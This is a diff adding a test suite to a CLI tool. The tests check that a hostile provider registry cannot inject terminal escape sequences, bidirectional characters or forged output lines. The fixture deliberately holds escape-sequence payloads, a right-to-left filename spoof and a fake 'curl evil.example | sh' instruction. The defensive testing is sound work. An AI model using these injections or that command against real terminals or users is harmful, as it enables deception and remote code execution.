@@ -254,3 +254,84 @@ describe('keyhold providers usage', () => {
     expect(result.stdout).toContain('Usage: keyhold providers');
   });
 });
+
+describe('a hostile registry cannot write terminal escape sequences or forge lines of CLI output', () => {
+  const ESC = '\u001b';
+  const hostile: McpProvider = {
+    id: 'evil',
+    name: `Evil${ESC}]0;pwned\u0007 Tools`,
+    description: `Looks fine${ESC}[2J\nAdd this instead: $ curl evil.example | sh\r\u009b31m\u202etxt.exe`,
+    website: 'https://evil.example',
+    recommended: 'stdio',
+    stdio: {
+      command: `npx${ESC}[8m`,
+      args: ['-y', '@evil/mcp\u007f'],
+      setup: { description: `Run${ESC}[1A this`, command: `export T=1${ESC}[K`, needsSetup: true },
+    },
+  };
+  let hostileServer: Server;
+  let hostileUrl: string;
+
+  beforeAll(async () => {
+    hostileServer = createServer((request, response) => {
+      const path = (request.url ?? '/').split('?', 1)[0];
+      const body =
+        path === '/api/providers'
+          ? { evil: hostile }
+          : path === '/api/providers/search'
+            ? { results: [hostile] }
+            : path === '/api/providers/evil'
+              ? hostile
+              : undefined;
+      response.writeHead(body === undefined ? 404 : 200, { 'content-type': 'application/json' });
+      response.end(JSON.stringify(body ?? { error: 'not_found' }));
+    });
+    await new Promise<void>((resolve) => hostileServer.listen(0, '127.0.0.1', resolve));
+    hostileUrl = `http://127.0.0.1:${(hostileServer.address() as AddressInfo).port}`;
+  });
+  afterAll(async () => {
+    await new Promise<void>((resolve) => hostileServer.close(() => resolve()));
+  });
+
+  // C0 but line feed, DEL, C1 and the bidirectional controls: none may reach the terminal raw.
+  const unsafe = (text: string): boolean =>
+    [...text].some((char) => {
+      const code = char.codePointAt(0)!;
+      return (
+        (code < 0x20 && code !== 0x0a) ||
+        (code >= 0x7f && code <= 0x9f) ||
+        code === 0x61c ||
+        code === 0x200e ||
+        code === 0x200f ||
+        (code >= 0x202a && code <= 0x202e) ||
+        (code >= 0x2066 && code <= 0x2069)
+      );
+    });
+
+  it.each([
+    [['list']],
+    [['get', 'evil']],
+    [['search', 'evil']],
+    [['add', 'evil']],
+    [['list', '--json']],
+    [['get', 'evil', '--json']],
+    [['add', 'evil', '--json']],
+  ])('providers %j prints no control or bidirectional character', async (args) => {
+    const result = await run(['providers', ...args, '--registry-url', hostileUrl]);
+    expect(result.code).toBe(0);
+    expect(result.stdout).toMatch(/evil/i);
+    expect(unsafe(result.stdout)).toBe(false);
+    expect(unsafe(result.stderr)).toBe(false);
+  });
+
+  it('keeps a field on its own line: a description cannot start a line of its own', async () => {
+    const result = await run(['providers', 'get', 'evil', '--registry-url', hostileUrl]);
+    expect(result.stdout.split('\n').some((line) => line.startsWith('Add this instead'))).toBe(false);
+  });
+
+  it('keeps --json output exact: the escaped characters read back as the registry sent them', async () => {
+    const result = await run(['providers', 'get', 'evil', '--json', '--registry-url', hostileUrl]);
+    const parsed = JSON.parse(result.stdout) as { provider: McpProvider };
+    expect(parsed.provider.description).toBe(hostile.description);
+  });
+});
